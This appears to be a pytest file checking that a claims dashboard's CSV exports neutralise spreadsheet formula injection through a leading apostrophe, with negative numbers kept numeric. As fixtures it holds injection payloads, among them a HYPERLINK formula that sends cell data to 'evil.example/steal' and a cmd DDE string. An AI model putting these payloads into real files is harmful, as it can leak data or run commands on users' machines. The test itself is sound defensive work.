"""CSV formula injection, end to end: articles that carry a spreadsheet formula in every place a
text cell can come from (a sentence, a quotation, the publisher and so the speaker, the file name
and so the document and figure ids), written by every CSV writer of the project: the command line
(extract, on standard output, to --out and over a folder; check; export), `export.csv_bytes` for
the figures, the checks and each chart's data, the ZIP bundle, and the dashboard's downloads.

Read back with the csv module, no cell starts like a formula (`=`, `+`, `-`, `@`, tab, carriage
return) unless it is a plain number: text cells carry a leading apostrophe, and numbers (-33.89
among them) stay numbers.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from test_fuzz import Page, answered

import dashboard.app as dashboard_app
from dashboard import charts, export, grid
from dashboard.checks import checks_table
from dashboard.cli import main
from dashboard.extract import extract_document
from dashboard.ingest import read_document
from dashboard.schema import FIGURE_COLUMNS

REPO = Path(__file__).resolve().parent.parent
SEED = REPO / "seeds" / "000_20713228fd6701a2.txt"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Read the report")'
FIGURE_NUMBERS = [c.name for c in FIGURE_COLUMNS if c.dtype in ("Int64", "Float64")]
CHECK_NUMBERS = ["data_value", "result"]

# The seed with formulas at the start of a sentence, of a quotation's sentence and of new
# paragraphs; the seed's checks still apply to it (its file keeps the seed's name).
SEED_EDITS = {
    "Fatal drug overdoses have": f"{HYPERLINK} Fatal drug overdoses have",
    "“Would we do that overland? We absolutely would. Look,": f"{HYPERLINK} “Look,",
}
SEED_ADDED = (
    "\n“=HYPERLINK(\"https://evil.example\",\"x\") We sank 40 boats,” Trump said.\n"
    "+1 555 0100 is the hotline, and 12 boats sank.\n"
    "-5 degrees left 30 people stranded, police said.\n"
    "@channel 21 strikes were reported.\n"
)
# Small articles whose names and publishers start like formulas, tab and carriage return too.
SMALL_ARTICLES = {
    "=1+2.txt": ("\t=1+1", "Officials said 40 homes burned on Monday.\n"),
    "@SUM(A1).md": ("\r=1+1", "+12 boats sank, and 3 ships were lost.\n"),
    "-2+3.txt": ("+cmd|' /C calc'!A0", "-7 people were hurt, the mayor said, and 9 more fled.\n"),
    "+evil.html": ("@evil", f"<p>{HYPERLINK} 30 people fled.</p><p>Nine boats sank.</p>"),
}


# -- checks ---------------------------------------------------------------------------------
def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(text: str, numeric: list[str] = (), where: str = "") -> list[list[str]]:
    """No cell of the CSV `text` runs as a formula; the `numeric` columns hold plain numbers."""
    header, *rows = cells_of(text)
    for row in rows:
        assert len(row) == len(header), f"{where}: a row of {len(row)} cells: {row[:3]}"
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), (
                f"{where}: column {column} holds a formula cell {cell[:60]!r}")
            if column in numeric and cell:
                assert NUMBER.fullmatch(cell), f"{where}: {column} is not a number: {cell!r}"
    return [header, *rows]


def neutralised_starts(text: str) -> set[str]:
    """The formula starts that some cell of the CSV carries behind its apostrophe."""
    return {cell[1] for row in cells_of(text) for cell in row
            if cell[:1] == "'" and cell[1:2] in FORMULA_STARTS}


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def assert_figures_csv(text: str, where: str) -> None:
    rows = assert_safe(text, FIGURE_NUMBERS, where)
    # The sentence that opens with the formula is there, behind its apostrophe.
    assert any(s.startswith("'" + HYPERLINK) for s in column(rows, "sentence")), where


def assert_checks_csv(text: str, where: str) -> None:
    rows = assert_safe(text, CHECK_NUMBERS, where)
    claims = column(rows, "claim_text")
    assert any(c.startswith("'" + HYPERLINK) for c in claims), where
    # A fall in overdose deaths is a negative result: it stays a number, with no apostrophe.
    assert any(r.startswith("-") and float(r) < 0 for r in column(rows, "result")), where


# -- fixtures -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def articles(tmp_path_factory) -> dict[str, Path]:
    """"checked": the seed with formulas (and its sidecar, publisher replaced); "folder": it and
    the small articles, each with a sidecar."""
    folder = tmp_path_factory.mktemp("articles")
    text = SEED.read_text(encoding="utf-8")
    for old, new in SEED_EDITS.items():
        assert old in text
        text = text.replace(old, new)
    checked = folder / SEED.name
    checked.write_text(text + SEED_ADDED, encoding="utf-8")
    meta = json.loads(SEED.with_suffix(".meta.json").read_text(encoding="utf-8"))
    meta.update(publisher=HYPERLINK, sha256=None)
    checked.with_suffix(".meta.json").write_text(json.dumps(meta), encoding="utf-8")
    for name, (publisher, body) in SMALL_ARTICLES.items():
        path = folder / name
        path.write_text(body, encoding="utf-8")
        path.with_suffix(".meta.json").write_text(
            json.dumps({"publisher": publisher, "published": "2025-11-18"}), encoding="utf-8")
    return {"checked": checked, "folder": folder}


@pytest.fixture(scope="module")
def tables(articles):
    """The figures, checks and charts of the checked article, as the app and export make them."""
    figures = extract_document(read_document(articles["checked"]))
    checks = checks_table(figures)
    return figures, checks, charts.build_all(figures, checks)


def article_files(articles) -> list[str]:
    return sorted(str(p) for p in articles["folder"].iterdir()
                  if not p.name.endswith(".meta.json"))


# -- the command line -----------------------------------------------------------------------
def test_extract_on_standard_output_neutralises_every_formula_start(articles, capsys):
    assert main(["extract", *article_files(articles)]) == 0
    out = capsys.readouterr().out
    assert_figures_csv(out, "extract")
    assert neutralised_starts(out) == set(FORMULA_STARTS)


def test_extract_to_a_file_and_over_a_folder_neutralises_every_formula_start(articles, tmp_path):
    for where, argv in {"extract --out": article_files(articles),
                        "extract FOLDER --out": [str(articles["folder"])]}.items():
        out = tmp_path / "figures.csv"
        assert main(["extract", *argv, "--out", str(out)]) == 0, where
        text = out.read_bytes().decode("utf-8")  # read_text would turn a lone \r into \n
        assert_figures_csv(text, where)
        assert neutralised_starts(text) == set(FORMULA_STARTS), where


def test_check_neutralises_the_claim_and_keeps_negative_results_numeric(articles, capsys,
                                                                        tmp_path):
    assert main(["check", str(articles["checked"])]) == 0
    assert_checks_csv(capsys.readouterr().out, "check")
    out = tmp_path / "checks.csv"
    assert main(["check", str(articles["checked"]), "--out", str(out)]) == 0
    assert_checks_csv(out.read_bytes().decode("utf-8"), "check --out")


def test_export_writes_only_safe_csv(articles, tables, tmp_path, capsys):
    out = tmp_path / "export"
    assert main(["export", str(articles["checked"]), "--out", str(out)]) == 0
    capsys.readouterr()
    written = {p.relative_to(out).as_posix(): p.read_bytes().decode("utf-8-sig")
               for p in out.rglob("*.csv")}
    assert_csv_files(written, tables, "export")


# -- Python: csv_bytes, the bundle ----------------------------------------------------------
def numeric_columns(table: pd.DataFrame) -> list[str]:
    return [name for name, dtype in table.dtypes.items()
            if pd.api.types.is_numeric_dtype(dtype) and not pd.api.types.is_bool_dtype(dtype)]


def assert_csv_files(files: dict[str, str], tables, where: str) -> None:
    """figures.csv, checks.csv and each chart's CSV, and the rest (reference data) just safe."""
    figures, checks, built = tables
    assert_figures_csv(files.pop("figures.csv"), f"{where} figures.csv")
    assert_checks_csv(files.pop("checks.csv"), f"{where} checks.csv")
    for name, (table, _) in built.items():
        path = f"charts/{export.file_name(name)}.csv"
        assert_safe(files.pop(path), numeric_columns(table), f"{where} {path}")
    assert files, f"{where}: no reference tables"
    for path, text in files.items():
        assert_safe(text, where=f"{where} {path}")


def test_csv_bytes_of_figures_checks_and_every_chart_are_safe(tables):
    figures, checks, built = tables
    assert_figures_csv(export.csv_bytes(figures).decode("utf-8-sig"), "csv_bytes figures")
    assert_checks_csv(export.csv_bytes(checks).decode("utf-8-sig"), "csv_bytes checks")
    carried = set()
    for name, (table, _) in built.items():
        text = export.csv_bytes(table).decode("utf-8-sig")
        assert_safe(text, numeric_columns(table), f"csv_bytes {name}")
        carried |= neutralised_starts(text)
    assert "=" in carried  # the timeline's sentences and speakers carry the formulas


def test_every_csv_of_the_bundle_is_safe(tables):
    figures, checks, built = tables
    with zipfile.ZipFile(io.BytesIO(export.bundle_zip(figures, checks, built))) as bundle:
        files = {name: bundle.read(name).decode("utf-8-sig") for name in bundle.namelist()
                 if name.endswith(".csv")}
    assert_csv_files(files, tables, "bundle")


# -- the dashboard's downloads --------------------------------------------------------------
@pytest.fixture(scope="module")
def page(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CLAIMS_DASHBOARD_STORE", str(tmp_path_factory.mktemp("store")))
        yield Page(dashboard_app.create_app().server.test_client())


def downloaded(page: Page, prefix: str, values: dict, changed: str) -> str:
    answer = answered(page.post(prefix, values, [changed]))["response"]
    (sent,) = [props for component in answer.values() for props in component.values()]
    assert sent["filename"].endswith(".csv")
    data = base64.b64decode(sent["content"]) if sent["base64"] else sent["content"].encode()
    return data.decode("utf-8-sig")


def test_the_dashboard_downloads_are_safe(page, articles, tmp_path):
    upload = tmp_path / "=1+2.txt"
    shutil.copy(articles["checked"], upload)
    data = base64.b64encode(upload.read_bytes()).decode()
    answer = answered(page.upload(f"data:text/plain;base64,{data}", upload.name, "2025-11-18"))
    search = answer["response"]["url"]["search"]
    key = dashboard_app.route(search)[0]
    found = dashboard_app.analysis(key)
    # The view: rows whose words hold "hyperlink", those of the formula sentences among them.
    state = {"url.search": search, "quick-search.value": "hyperlink",
             "figures-grid.getRowsRequest": {"startRow": 0, "endRow": 100, "filterModel": {},
                                             "sortModel": [{"colId": "sentence", "sort": "asc"}]}}
    rows = grid.view(found.figures, search="hyperlink")
    assert 0 < len(rows) < len(found.figures)

    every = downloaded(page, "figures-download.data", state, "figures-csv-all.n_clicks")
    assert_figures_csv(every, "download: all figures")
    shown = downloaded(page, "figures-download.data", state, "figures-csv-view.n_clicks")
    assert_figures_csv(shown, "download: this view")
    assert len(cells_of(shown)) == len(rows) + 1
    checks = downloaded(page, "checks-download.data", state, "checks-csv.n_clicks")
    assert_safe(checks, CHECK_NUMBERS, "download: checks")
    for name, (table, _) in dashboard_app.built_charts(key, False).items():
        assert_safe(chart_csv(page, name, search), numeric_columns(table), f"download: {name}")


def chart_csv(page: Page, name: str, search: str) -> str:
    """The CSV the "Download CSV" button of chart `name` sends (a MATCH callback: its ids are
    the chart's own)."""
    dependency = page.dependency('{"chart":["MATCH"],"type":"chart-download"}')
    clicked = {"chart": name, "type": "chart-csv"}
    body = {
        "output": dependency["output"],
        "outputs": {"id": {"chart": name, "type": "chart-download"}, "property": "data"},
        "inputs": [{"id": clicked, "property": "n_clicks", "value": 1},
                   {"id": {"chart": name, "type": "chart-png"}, "property": "n_clicks"},
                   {"id": {"chart": name, "type": "chart-svg"}, "property": "n_clicks"}],
        "state": [{"id": "url", "property": "search", "value": search},
                  {"id": "claim-scale", "property": "data", "value": "linear"}],
        "changedPropIds": [json.dumps(clicked, separators=(",", ":")) + ".n_clicks"],
    }
    answer = answered(page.client.post("/_dash-update-component", json=body))
    (sent,) = [props for component in answer["response"].values()
               for props in component.values()]
    found = dashboard_app.analysis(dashboard_app.route(search)[0])
    assert sent["filename"] == f"{dashboard_app.download_stem(found)}-{export.file_name(name)}.csv"
    return base64.b64decode(sent["content"]).decode("utf-8-sig")
